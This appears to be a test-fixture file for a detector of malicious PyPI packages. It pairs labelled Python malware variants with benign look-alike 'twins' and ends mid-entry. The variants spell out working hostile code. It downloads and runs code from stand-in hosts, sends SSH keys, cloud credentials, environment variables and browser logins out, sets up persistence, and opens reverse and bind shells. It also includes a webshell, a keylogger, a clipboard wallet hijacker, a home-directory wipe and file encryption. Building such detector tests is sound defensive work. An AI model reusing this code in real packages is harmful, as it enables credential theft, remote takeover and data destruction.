/**
 * Python variants written for issue 22 (branch `pkg22py`): the behaviours of the PyPI blind sets' even (tuning)
 * halves, restated in other syntax (aliases, getattr, importlib, comprehensions, the walrus, f-strings, bytes and
 * integer arrays, codecs, lambdas, class methods, two modules), and honest twins using the same mechanisms for their
 * stated purpose. Inert: every text is packed into an in-memory sdist (test/support/pypi-variants-pypi22.ts `sdist`),
 * hosts are invented (`.example`, TEST-NET addresses), nothing runs.
 *
 * Each variant names its behaviour group (`family`) and the rule expected to state it (`note`).
 */
import { deflateSync } from 'node:zlib';
import type { PypiVariant } from './pypi-variants-set1.js';
import { sdist } from './pypi-variants-pypi22.js';

const py = String.raw;
const codes = (s: string): string => [...Buffer.from(s)].join(', ');
const b64 = (s: string): string => Buffer.from(s).toString('base64');

function v(id: string, family: string, rule: string, files: Record<string, string>): PypiVariant {
  return { ...sdist('pkgx', files), id, family, note: rule };
}

// ---- download, then run ----------------------------------------------------------------------------------------

export const DOWNLOAD_RUN: readonly PypiVariant[] = [
  v('importlib-urlopen-popen-getattr', 'download-then-run', 'download_execute', {
    'pkgx/__init__.py': py`import importlib, os, tempfile
net = importlib.import_module('urllib.request')
proc = importlib.import_module('subprocess')
blob = net.urlopen('http://198.51.100.31/agent').read()
dest = os.path.join(tempfile.gettempdir(), 'agent')
with open(dest, 'wb') as fh:
    fh.write(blob)
os.chmod(dest, 0o755)
getattr(proc, 'Popen')([dest])
`,
  }),
  v('walrus-pathlib-write-bytes-run', 'download-then-run', 'download_execute', {
    'pkgx/__init__.py': py`import pathlib, subprocess, tempfile, requests
if (resp := requests.get('http://203.0.113.44/upd.bin', timeout=9)).ok:
    (target := pathlib.Path(tempfile.gettempdir()) / 'upd').write_bytes(resp.content)
    target.chmod(0o755)
    subprocess.Popen([str(target)])
`,
  }),
  v('class-method-fetch-exec', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import urllib.request

class _Loader:
    source = 'https://cdn.pkgx-assets.example/boot.py'

    def fetch(self):
        return urllib.request.urlopen(self.source).read().decode()

    def run(self):
        code = self.fetch()
        exec(code, {'__name__': '__boot__'})

_Loader().run()
`,
  }),
  v('two-modules-fetch-exec', 'download-then-run', 'remote_code_exec', {
    'pkgx/_net.py': py`import requests

def get_text(url):
    return requests.get(url, timeout=5).text
`,
    'pkgx/__init__.py': py`from ._net import get_text
exec(get_text('http://198.51.100.61/s.py'))
`,
  }),
  v('lambda-fetch-eval', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`from urllib.request import urlopen as _o
_grab = lambda u: _o(u).read()
eval(compile(_grab('http://203.0.113.70/x'), '<x>', 'exec'))
`,
  }),
  v('comprehension-lines-exec', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import urllib.request as ur
exec('\n'.join([line.decode() for line in ur.urlopen('http://198.51.100.8/p.txt')]))
`,
  }),
  v('map-chr-url-sh-c', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import subprocess, requests
u = ''.join(map(chr, [${codes('http://203.0.113.5/s.sh')}]))
subprocess.run(['sh', '-c', requests.get(u).text])
`,
  }),
  v('rot13-url-json-field-eval', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import codecs, requests
cfg = requests.get(codecs.decode('uggc://pbasvt.cxtk-grnz.rknzcyr/i1', 'rot13')).json()
eval(cfg['bootstrap'])
`,
  }),
  v('urlretrieve-startfile-alias', 'download-then-run', 'download_execute', {
    'pkgx/__init__.py': py`import os
from urllib.request import urlretrieve as fetch
from os import startfile as launch
p = os.path.join(os.environ.get('TEMP', '.'), 'helper.exe')
fetch(f"http://{'198.51.100.90'}/helper.exe", p)
launch(p)
`,
  }),
  v('session-content-exec-module-file', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import importlib.util, os, tempfile, requests
s = requests.Session()
body = s.get('https://files.pkgx-mirror.example/mod.py').content
path = os.path.join(tempfile.mkdtemp(), 'mod.py')
open(path, 'wb').write(body)
spec = importlib.util.spec_from_file_location('mod', path)
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
`,
  }),
  v('setup-install-class-getattr-system', 'download-then-run', 'shell_remote_command', {
    'setup.py': py`from setuptools import setup
from setuptools.command.install import install as _base
import os

class Post(_base):
    def run(self):
        _base.run(self)
        getattr(os, 'sys' + 'tem')('curl -fsSL http://203.0.113.12/i.sh | sh')

setup(name='pkgx', version='1.0.0', packages=['pkgx'], cmdclass={'install': Post})
`,
  }),
  v('thread-target-download-run', 'download-then-run', 'download_execute', {
    'pkgx/__init__.py': py`import threading, os, tempfile, urllib.request as rq

def _job(url):
    data = rq.urlopen(url).read()
    fd, path = tempfile.mkstemp()
    os.write(fd, data)
    os.close(fd)
    os.chmod(path, 0o700)
    os.execv(path, [path])

threading.Thread(target=_job, args=('http://198.51.100.14/j',), daemon=True).start()
`,
  }),
];

// (a server only the environment names, at import)
export const CONFIGURED: readonly PypiVariant[] = [
  v('import-exec-from-env-configured-server', 'download-then-run', 'remote_code_exec_configured', {
    'pkgx/__init__.py': py`import os, requests
exec(requests.get(os.environ.get('PKGX_BOOT', 'x') + '/boot').text)
`,
  }),
];

// ---- credentials or files collected and sent -------------------------------------------------------------------

export const COLLECT_SEND: readonly PypiVariant[] = [
  v('glob-aws-files-post', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import glob, os, requests
bag = {}
for f in glob.glob(os.path.expanduser('~/.aws/*')):
    with open(f) as h:
        bag[os.path.basename(f)] = h.read()
requests.post('https://hooks.pkgx-stats.example/in', json=bag, timeout=5)
`,
  }),
  v('pathlib-ssh-iterdir-request', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import json
from pathlib import Path
from urllib.request import Request, urlopen
keys = {p.name: p.read_text() for p in (Path.home() / '.ssh').iterdir() if p.is_file()}
urlopen(Request('http://198.51.100.33/k', data=json.dumps(keys).encode()))
`,
  }),
  v('socket-sendall-ssh-key', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import os, socket
with open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb') as fh:
    payload = fh.read()
s = socket.create_connection(('203.0.113.77', 8443))
s.sendall(payload)
s.close()
`,
  }),
  v('http-client-environ-comprehension', 'collect-and-send', 'env_exfil_flow', {
    'pkgx/__init__.py': py`import os, json, http.client
env = {k: v for k, v in os.environ.items()}
c = http.client.HTTPSConnection('telemetry.pkgx-metrics.example')
c.request('POST', '/e', body=json.dumps(env))
`,
  }),
  v('two-modules-collect-send', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/_collect.py': py`import os

def gather():
    out = {}
    for name in ('.netrc', '.pypirc', '.git-credentials'):
        p = os.path.join(os.path.expanduser('~'), name)
        if os.path.exists(p):
            out[name] = open(p).read()
    return out
`,
    'pkgx/__init__.py': py`import requests
from ._collect import gather
requests.post('http://198.51.100.55/c', data=gather())
`,
  }),
  v('walrus-kube-config-fstring-host', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import os, urllib.request
host = '203.0.113.' + str(90)
if os.path.exists(cfg := os.path.join(os.path.expanduser('~'), '.kube', 'config')):
    urllib.request.urlopen(f'http://{host}:8080/u', data=open(cfg, 'rb').read())
`,
  }),
  v('smtp-netrc', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import os, smtplib
from email.message import EmailMessage
m = EmailMessage()
m['Subject'] = 'report'
m.set_content(open(os.path.join(os.environ['HOME'], '.netrc')).read())
with smtplib.SMTP('mail.pkgx-relay.example', 587) as s:
    s.send_message(m, 'a@pkgx-relay.example', ['b@pkgx-relay.example'])
`,
  }),
  v('recon-class-beacon-thread', 'collect-and-send', 'recon_exfil_flow', {
    'pkgx/__init__.py': py`import getpass, platform, socket, threading, urllib.parse, urllib.request

class _Beacon(threading.Thread):
    daemon = True

    def run(self):
        info = urllib.parse.urlencode({'u': getpass.getuser(), 'h': socket.gethostname(), 'o': platform.platform()})
        urllib.request.urlopen('http://198.51.100.101/b?' + info)

_Beacon().start()
`,
  }),
];

// ---- persistence -----------------------------------------------------------------------------------------------

export const PERSISTENCE: readonly PypiVariant[] = [
  v('pathlib-bashrc-append-curl', 'persistence', 'persistence_remote', {
    'pkgx/__init__.py': py`from pathlib import Path
rc = Path.home().joinpath('.bashrc')
with rc.open('a') as f:
    f.write('\n(curl -s http://203.0.113.8/k | sh) >/dev/null 2>&1 &\n')
`,
  }),
  v('crontab-pipe-subprocess', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import subprocess
line = '*/10 * * * * python3 -c "import urllib.request as u;exec(u.urlopen(\'http://198.51.100.3/c\').read())"'
subprocess.run('(crontab -l 2>/dev/null; echo "%s") | crontab -' % line, shell=True)
`,
  }),
  v('systemd-unit-fstring-path', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import os, subprocess
home = os.path.expanduser('~')
unit = f"{home}/.config/systemd/user/pkgx-sync.service"
os.makedirs(os.path.dirname(unit), exist_ok=True)
open(unit, 'w').write('[Service]\nExecStart=/usr/bin/python3 -m pkgx.agent\nRestart=always\n[Install]\nWantedBy=default.target\n')
subprocess.call(['systemctl', '--user', 'enable', '--now', 'pkgx-sync'])
`,
  }),
  v('winreg-alias-run-key', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import sys
import winreg as wr
k = wr.OpenKey(wr.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, wr.KEY_SET_VALUE)
wr.SetValueEx(k, 'PkgxHelper', 0, wr.REG_SZ, sys.executable + ' -m pkgx.agent')
`,
  }),
];

// ---- obfuscated exec -------------------------------------------------------------------------------------------

export const OBFUSCATED: readonly PypiVariant[] = [
  v('getattr-builtins-concat-b64-zlib', 'obfuscated-exec', 'decoded_code_exec', {
    'pkgx/__init__.py': py`import base64, builtins, zlib
getattr(builtins, 'ex' + 'ec')(zlib.decompress(base64.b64decode('${deflateSync(Buffer.from('import os; os.system("id")')).toString('base64')}')))
`,
  }),
  v('vars-builtins-eval-hex', 'obfuscated-exec', 'decode_exec', {
    'pkgx/__init__.py': py`import builtins, codecs
vars(builtins)['eval'](compile(codecs.decode('${Buffer.from('__import__("os").system("id")').toString('hex')}', 'hex'), 'x', 'exec'))
`,
  }),
  v('lambda-exec-b64', 'obfuscated-exec', 'decode_exec', {
    'pkgx/__init__.py': py`import base64
(lambda c: exec(c))(base64.b64decode('${b64('import os\nos.system("id")\n')}'))
`,
  }),
  v('xor-generator-bytes-exec', 'obfuscated-exec', 'decoded_code_exec', {
    'pkgx/__init__.py': py`DATA = bytes([${[...Buffer.from('import os;os.system("id")')].map((b) => b ^ 0x5a).join(', ')}])
exec(bytes(b ^ 0x5a for b in DATA).decode())
`,
  }),
  v('int-array-chr-join-exec-class', 'obfuscated-exec', 'encoded_code_exec', {
    'pkgx/__init__.py': py`class _K:
    P = [${codes('import os;os.system("id")')}]

    @classmethod
    def go(cls):
        exec(''.join(chr(c) for c in cls.P))

_K.go()
`,
  }),
  v('importlib-builtins-getattr-decoded-name', 'obfuscated-exec', 'decoded_code_exec', {
    'pkgx/__init__.py': py`import importlib, base64
_b = importlib.import_module('builtins')
_run = getattr(_b, base64.b64decode('ZXhlYw==').decode())
_run(base64.b64decode('${b64('import os\nos.system("id")\n')}'))
`,
  }),
];

// ---- honest twins ----------------------------------------------------------------------------------------------

export const TWINS: readonly PypiVariant[] = [
  v('twin-download-data-json', 'download-then-run', '', {
    'pkgx/__init__.py': py`import json, os, tempfile, requests
if (resp := requests.get('https://data.pkgx.example/index.json', timeout=9)).ok:
    (target := os.path.join(tempfile.gettempdir(), 'index.json'))
    open(target, 'w').write(resp.text)
    INDEX = json.load(open(target))
`,
  }),
  v('twin-tool-download-verify-no-run', 'download-then-run', '', {
    'pkgx/_net.py': py`import hashlib, requests

def get_bytes(url, sha):
    b = requests.get(url, timeout=5).content
    assert hashlib.sha256(b).hexdigest() == sha
    return b
`,
    'pkgx/__init__.py': py`from ._net import get_bytes

def model(path='model.bin'):
    open(path, 'wb').write(get_bytes('https://models.pkgx.example/m.bin', 'abc'))
    return path
`,
  }),
  v('twin-exec-version-file', 'obfuscated-exec', '', {
    'setup.py': py`from setuptools import setup
ns = {}
exec(open('pkgx/_version.py').read(), ns)
setup(name='pkgx', version=ns['__version__'], packages=['pkgx'], url='https://pkgx.example')
`,
    'pkgx/_version.py': "__version__ = '1.0.0'\n",
  }),
  v('twin-aws-config-reader', 'collect-and-send', '', {
    'pkgx/__init__.py': py`import configparser, os, glob
profiles = {}
for f in glob.glob(os.path.expanduser('~/.aws/*')):
    cp = configparser.ConfigParser()
    cp.read(f)
    profiles.update({s: dict(cp[s]) for s in cp.sections()})

def region(name='default'):
    return profiles.get(name, {}).get('region')
`,
  }),
  v('twin-ssh-key-lister', 'collect-and-send', '', {
    'pkgx/__init__.py': py`from pathlib import Path

def public_keys():
    return {p.name: p.read_text() for p in (Path.home() / '.ssh').iterdir() if p.suffix == '.pub'}
`,
  }),
  v('twin-env-subset-to-own-api', 'collect-and-send', '', {
    'pkgx/__init__.py': py`import os, requests

def report(event):
    cfg = {k: v for k, v in os.environ.items() if k.startswith('PKGX_')}
    requests.post('https://api.pkgx.example/v1/events', json={'event': event, 'cfg': cfg})
`,
  }),
  v('twin-shell-completion-bashrc', 'persistence', '', {
    'pkgx/cli.py': py`from pathlib import Path

def install_completion():
    rc = Path.home().joinpath('.bashrc')
    with rc.open('a') as f:
        f.write('\neval "$(_PKGX_COMPLETE=bash_source pkgx)"\n')
`,
  }),
  v('twin-codegen-exec-template', 'obfuscated-exec', '', {
    'pkgx/__init__.py': py`_TEMPLATE = 'def {name}(self):\n    return self._data[{key!r}]\n'
class Record:
    pass
for _f in ('id', 'name'):
    _ns = {}
    exec(_TEMPLATE.format(name=_f, key=_f), _ns)
    setattr(Record, _f, property(_ns[_f]))
`,
  }),
  v('twin-recon-local-log', 'collect-and-send', '', {
    'pkgx/__init__.py': py`import getpass, logging, platform, socket
log = logging.getLogger(__name__)
log.debug('user=%s host=%s os=%s', getpass.getuser(), socket.gethostname(), platform.platform())
`,
  }),
];


// ---- second batch: install-time hooks, import-time side effects, more senders and runners ----------------------

export const MORE: readonly PypiVariant[] = [
  v('setup-build-py-override-env-post', 'install-time-hook', 'exfil_env_dump', {
    'setup.py': py`import json, os, urllib.request as u
from setuptools import setup
from setuptools.command.build_py import build_py as _bp

class BuildPy(_bp):
    def run(self):
        u.urlopen(u.Request('https://ci-cache.pkgx-build.example/p', data=json.dumps(dict(os.environ)).encode()))
        super().run()

setup(name='pkgx', version='1.0.0', packages=['pkgx'], cmdclass={'build_py': BuildPy})
`,
  }),
  v('in-tree-backend-build-sdist-subprocess-alias', 'install-time-hook', 'remote_code_exec', {
    'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
    '_build/backend.py': py`import subprocess as _sp
from setuptools import build_meta as _m
from setuptools.build_meta import *

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _sp.run(['bash', '-c', 'wget -qO- http://203.0.113.61/b.sh | bash'])
    return _m.build_wheel(wheel_directory, config_settings, metadata_directory)
`,
  }),
  v('setup-atexit-lambda-system', 'install-time-hook', 'setup_py_remote_exec', {
    'setup.py': py`import atexit, os
from setuptools import setup
atexit.register(lambda: os.system('curl -s http://198.51.100.45/p | python3 -'))
setup(name='pkgx', version='1.0.0', packages=['pkgx'])
`,
  }),
  v('import-atexit-recon-beacon', 'import-side-effect', 'recon_exfil', {
    'pkgx/__init__.py': py`import atexit, getpass, socket, requests

def _bye():
    requests.post('http://203.0.113.200/bye', data={'who': getpass.getuser(), 'where': socket.gethostname()})

atexit.register(_bye)
`,
  }),
  v('import-multiprocessing-remote-exec', 'import-side-effect', 'remote_code_exec', {
    'pkgx/__init__.py': py`import multiprocessing, urllib.request

def _worker(u):
    exec(urllib.request.urlopen(u).read())

multiprocessing.Process(target=_worker, args=('http://198.51.100.120/w.py',), daemon=True).start()
`,
  }),
  v('import-asyncio-shell-curl', 'import-side-effect', 'shell_remote_command', {
    'pkgx/__init__.py': py`import asyncio

async def _go():
    p = await asyncio.create_subprocess_shell('curl -fsSL http://203.0.113.150/x.sh | sh')
    await p.wait()

asyncio.run(_go())
`,
  }),
  v('globals-builtins-exec-fromhex', 'obfuscated-exec', 'decoded_code_exec', {
    'pkgx/__init__.py': py`_x = globals()['__builtins__']
_e = _x['exec'] if isinstance(_x, dict) else getattr(_x, 'exec')
_e(bytes.fromhex('${Buffer.from('import os;os.system("id")').toString('hex')}').decode())
`,
  }),
  v('b85-compile-eval', 'obfuscated-exec', 'decode_exec', {
    'pkgx/__init__.py': py`import base64 as _b
eval(compile(_b.b85decode('${Buffer.from('import os;os.system("id")').toString('base64')}'), '<s>', 'exec'))
`,
  }),
  v('data-file-b64-exec', 'obfuscated-exec', 'decode_exec', {
    'pkgx/__init__.py': py`import base64, os
with open(os.path.join(os.path.dirname(__file__), 'glyphs.dat'), 'rb') as fh:
    exec(base64.b64decode(fh.read()))
`,
    'pkgx/glyphs.dat': b64('import os\nos.system("id")\n'),
  }),
  v('staticmethod-zlib-import-exec', 'obfuscated-exec', 'decode_exec', {
    'pkgx/__init__.py': py`class _Boot:
    @staticmethod
    def load(blob):
        return __import__('zlib').decompress(__import__('base64').b64decode(blob))

exec(_Boot.load('${deflateSync(Buffer.from('import os;os.system("id")')).toString('base64')}'))
`,
  }),
  v('zip-extract-run', 'download-then-run', 'archive_download_execute', {
    'pkgx/__init__.py': py`import io, os, subprocess, tempfile, zipfile, requests
d = tempfile.mkdtemp()
zipfile.ZipFile(io.BytesIO(requests.get('http://198.51.100.88/tools.zip').content)).extractall(d)
subprocess.Popen([os.path.join(d, 'svc.exe')])
`,
  }),
  v('pip-install-url-at-import', 'download-then-run', 'pip_install_remote', {
    'pkgx/__init__.py': py`import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'http://203.0.113.99/pkgx_ext-1.0.tar.gz'])
`,
  }),
  v('os-popen-powershell-iex', 'download-then-run', 'remote_code_exec', {
    'pkgx/__init__.py': py`import os
url = 'http://198.51.100.71/a.ps1'
os.popen(f'powershell -w hidden -c "iex (iwr {url} -UseBasicParsing).Content"')
`,
  }),
  v('shellexecute-after-download', 'download-then-run', 'download_execute', {
    'pkgx/__init__.py': py`import ctypes, os, urllib.request
p = os.path.join(os.environ['TEMP'], 'upd.exe')
urllib.request.urlretrieve('http://203.0.113.31/upd.exe', p)
ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)
`,
  }),
  v('ftp-storbinary-ssh-key', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import ftplib, os
ftp = ftplib.FTP('203.0.113.66', 'anonymous', 'x')
with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as fh:
    ftp.storbinary('STOR k.bin', fh)
`,
  }),
  v('telegram-senddocument-aws', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import os, requests
TOKEN = '7000000000:AAH' + 'x' * 32
f = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
requests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument', data={'chat_id': '1'}, files={'document': open(f, 'rb')})
`,
  }),
  v('env-b64-in-query-fstring', 'collect-and-send', 'env_exfil_flow', {
    'pkgx/__init__.py': py`import base64, json, os, urllib.request
blob = base64.urlsafe_b64encode(json.dumps(dict(os.environ)).encode()).decode()
urllib.request.urlopen(f'http://198.51.100.19/p?d={blob}')
`,
  }),
  v('browser-login-data-copy-upload', 'collect-and-send', 'exfil_credential_file', {
    'pkgx/__init__.py': py`import os, shutil, tempfile, requests
src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
dst = os.path.join(tempfile.gettempdir(), 'ld.db')
shutil.copy2(src, dst)
with open(dst, 'rb') as fh:
    requests.post('https://upload.pkgx-cdn.example/f', files={'f': fh})
`,
  }),
  v('startup-folder-bat', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import os
startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
with open(os.path.join(startup, 'pkgx.bat'), 'w') as f:
    f.write('@echo off\nstart /b pythonw -m pkgx.agent\n')
`,
  }),
  v('launch-agent-plistlib', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import os, plistlib, sys
p = os.path.expanduser('~/Library/LaunchAgents/com.pkgx.agent.plist')
with open(p, 'wb') as fh:
    plistlib.dump({'Label': 'com.pkgx.agent', 'ProgramArguments': [sys.executable, '-m', 'pkgx.agent'], 'RunAtLoad': True}, fh)
`,
  }),
  v('profile-print-file', 'persistence', 'persistence_remote', {
    'pkgx/__init__.py': py`import os
with open(os.path.expanduser('~/.profile'), 'a') as f:
    print('wget -qO- http://203.0.113.14/r | sh &', file=f)
`,
  }),
];

export const MORE_TWINS: readonly PypiVariant[] = [
  v('twin-build-py-generates-version', 'install-time-hook', '', {
    'setup.py': py`import os, subprocess
from setuptools import setup
from setuptools.command.build_py import build_py as _bp

class BuildPy(_bp):
    def run(self):
        rev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()
        with open(os.path.join('pkgx', '_rev.py'), 'w') as f:
            f.write(f'REV = {rev!r}\n')
        super().run()

setup(name='pkgx', version='1.0.0', packages=['pkgx'], cmdclass={'build_py': BuildPy}, url='https://pkgx.example')
`,
  }),
  v('twin-atexit-flush-cache', 'import-side-effect', '', {
    'pkgx/__init__.py': py`import atexit, json, os
_CACHE = {}

def _flush():
    with open(os.path.expanduser('~/.cache/pkgx.json'), 'w') as f:
        json.dump(_CACHE, f)

atexit.register(_flush)
`,
  }),
  v('twin-zip-extract-data', 'download-then-run', '', {
    'pkgx/data.py': py`import io, os, zipfile, requests

def fetch_dataset(d):
    zipfile.ZipFile(io.BytesIO(requests.get('https://data.pkgx.example/set.zip').content)).extractall(d)
    return os.path.join(d, 'set.csv')
`,
  }),
  v('twin-staticmethod-b64-config', 'obfuscated-exec', '', {
    'pkgx/__init__.py': py`import base64, json

class _Cfg:
    @staticmethod
    def load(blob):
        return json.loads(base64.b64decode(blob))

DEFAULTS = _Cfg.load('${b64('{"colour": true}')}')
`,
  }),
  v('twin-launch-agent-on-request', 'persistence', '', {
    'pkgx/cli.py': py`import os, plistlib, sys

def install_agent():
    """pkgx agent install: run the sync agent at login (asked for by the user)."""
    p = os.path.expanduser('~/Library/LaunchAgents/com.pkgx.agent.plist')
    with open(p, 'wb') as fh:
        plistlib.dump({'Label': 'com.pkgx.agent', 'ProgramArguments': [sys.executable, '-m', 'pkgx.agent'], 'RunAtLoad': True}, fh)
`,
  }),
  v('twin-ftp-upload-user-file', 'collect-and-send', '', {
    'pkgx/__init__.py': py`import ftplib

def upload(host, path, user, password):
    with ftplib.FTP(host, user, password) as ftp, open(path, 'rb') as fh:
        ftp.storbinary('STOR ' + path.rsplit('/', 1)[-1], fh)
`,
  }),
  v('twin-two-modules-token-to-own-api', 'collect-and-send', '', {
    'pkgx/_auth.py': py`import os

def token():
    return os.environ.get('PKGX_TOKEN')
`,
    'pkgx/__init__.py': py`import requests
from ._auth import token

def whoami():
    return requests.get('https://api.pkgx.example/v1/me', headers={'Authorization': 'Bearer ' + token()}).json()
`,
  }),
  v('twin-two-modules-fetch-json', 'download-then-run', '', {
    'pkgx/_net.py': py`import requests

def get_text(url):
    return requests.get(url, timeout=5).text
`,
    'pkgx/__init__.py': py`import json
from ._net import get_text

def releases():
    return json.loads(get_text('https://api.pkgx.example/releases'))
`,
  }),
];


// ---- third batch: payloads of other kinds, at import ----------------------------------------------------------

export const PAYLOADS: readonly PypiVariant[] = [
  v('reverse-shell-popen-fileno', 'remote-control', 'reverse_shell', {
    'pkgx/__init__.py': py`import socket as _s, subprocess as _p
c = _s.socket(_s.AF_INET, _s.SOCK_STREAM)
c.connect(('198.51.100.47', 9001))
_p.Popen(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
`,
  }),
  v('bind-shell-recv-check-output', 'remote-control', 'socket_command_exec', {
    'pkgx/__init__.py': py`import socket, subprocess, threading

def _serve():
    srv = socket.socket()
    srv.bind(('0.0.0.0', 31337))
    srv.listen(1)
    conn, _ = srv.accept()
    while True:
        cmd = conn.recv(4096)
        if not cmd:
            break
        conn.send(subprocess.check_output(cmd, shell=True))

threading.Thread(target=_serve, daemon=True).start()
`,
  }),
  v('http-polling-c2-getoutput', 'remote-control', 'remote_code_exec', {
    'pkgx/__init__.py': py`import subprocess, threading, time, requests
C2 = 'http://203.0.113.250:8000'

def _loop():
    while True:
        task = requests.get(C2 + '/task', timeout=10).text
        if task:
            requests.post(C2 + '/out', data=subprocess.getoutput(task))
        time.sleep(30)

threading.Thread(target=_loop, daemon=True).start()
`,
  }),
  v('dns-exfil-user-host', 'collect-and-send', 'dns_recon', {
    'pkgx/__init__.py': py`import getpass, socket
try:
    socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.t.pkgx-dns.example")
except OSError:
    pass
`,
  }),
  v('home-rmtree-at-import', 'destructive', 'destructive_wipe', {
    'pkgx/__init__.py': py`import os, shutil, datetime
if datetime.date.today() > datetime.date(2026, 1, 1):
    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
`,
  }),
  v('encrypt-home-files', 'destructive', 'files_encrypted_in_place', {
    'pkgx/__init__.py': py`import os
from cryptography.fernet import Fernet
k = Fernet(Fernet.generate_key())
for root, _, files in os.walk(os.path.expanduser('~/Documents')):
    for n in files:
        p = os.path.join(root, n)
        with open(p, 'rb') as f:
            data = f.read()
        with open(p + '.locked', 'wb') as f:
            f.write(k.encrypt(data))
        os.remove(p)
`,
  }),
  v('clipboard-swap-pyperclip', 'clipboard', 'clipboard_wallet_hijack', {
    'pkgx/__init__.py': py`import re, threading, time
import pyperclip as pc
MINE = 'bc1q' + 'x' * 38

def _watch():
    while True:
        t = pc.paste()
        if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', t or ''):
            pc.copy(MINE)
        time.sleep(0.5)

threading.Thread(target=_watch, daemon=True).start()
`,
  }),
  v('flask-route-cmd-webshell', 'remote-control', 'request_command_exec', {
    'pkgx/__init__.py': py`import os
from flask import Flask, request
app = Flask(__name__)

@app.route('/_health')
def health():
    c = request.args.get('c')
    return os.popen(c).read() if c else 'ok'
`,
  }),
  v('discord-token-regex-webhook', 'collect-and-send', 'credential_exfil_flow', {
    'pkgx/__init__.py': py`import os, re, json, urllib.request
hook = 'https://discord.com/api/webhooks/1/abc'
found = []
base = os.path.join(os.getenv('APPDATA', ''), 'discord', 'Local Storage', 'leveldb')
for n in os.listdir(base) if os.path.isdir(base) else []:
    if n.endswith(('.log', '.ldb')):
        found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', open(os.path.join(base, n), errors='ignore').read())
urllib.request.urlopen(urllib.request.Request(hook, data=json.dumps({'content': ' '.join(found)}).encode(), headers={'Content-Type': 'application/json'}))
`,
  }),
  v('authorized-keys-append', 'persistence', 'persistence_write', {
    'pkgx/__init__.py': py`import os
ak = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')
os.makedirs(os.path.dirname(ak), exist_ok=True)
with open(ak, 'a') as f:
    f.write('\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB' + 'x' * 40 + ' ops\n')
`,
  }),
  v('gist-upload-env', 'collect-and-send', 'env_exfil_flow', {
    'pkgx/__init__.py': py`import json, os, requests
requests.post('https://api.github.com/gists', headers={'Authorization': 'token ghp_' + 'x' * 36},
              json={'public': False, 'files': {'e.json': {'content': json.dumps({**os.environ})}}})
`,
  }),
  v('keylogger-pynput-post', 'capture', 'capture_exfil_flow', {
    'pkgx/__init__.py': py`import threading, requests
from pynput import keyboard
buf = []

def on_press(k):
    buf.append(str(k))
    if len(buf) > 50:
        requests.post('http://198.51.100.160/k', data=''.join(buf))
        buf.clear()

keyboard.Listener(on_press=on_press).start()
`,
  }),
];


export const PAYLOAD_TWINS: readonly PypiVariant[] = [
  v('twin-upload-runtime-named-file', 'collect-and-send', '', {
    'pkgx/__init__.py': py`import glob, os, requests
for name in glob.glob(os.path.join(os.getcwd(), 'reports', '*')):
    with open(name, 'rb') as fh:
        requests.post('https://198.51.100.30/upload', files={'f': fh})
`,
  }),
  v('twin-codegen-service-client-runtime', 'download-then-run', '', {
    'pkgx/backend.py': py`import requests

class CloudBackend:
    """Compiles queries to Python on the code-generation service the user's DSN names."""

    def __init__(self, dsn):
        self.api_url = dsn

    def _post(self, url, payload):
        return requests.post(url, json=payload).json()

    def document(self, query):
        code = self._post('{}/graphql'.format(self.api_url), {'query': query})['data']['code']
        return compile(code, '<document>', 'exec')
`,
    // (as graphql-core's backend: a module the user imports by name, which the package's __init__ does not import)
  }),
  v('twin-kernel-env-then-db-row', 'collect-and-send', '', {
    'pkgx/sessions.py': py`import os, sqlite3

class Sessions:
    def __init__(self, manager):
        self.manager = manager
        self.cursor = sqlite3.connect(':memory:').cursor()

    def kernel_env(self, path):
        return {**os.environ, 'PKGX_SESSION': path}

    async def start(self, sid, path):
        kid = await self.manager.start_kernel(path=path, env=self.kernel_env(path))
        await self.save(sid, path, kid)

    async def save(self, sid, path, kid):
        self.cursor.execute('INSERT INTO session VALUES (?,?,?)', (sid, path, kid))
`,
    'pkgx/__init__.py': 'from .sessions import Sessions  # noqa\n',
  }),
  v('twin-socket-json-server', 'remote-control', '', {
    'pkgx/__init__.py': py`import json, socket, threading
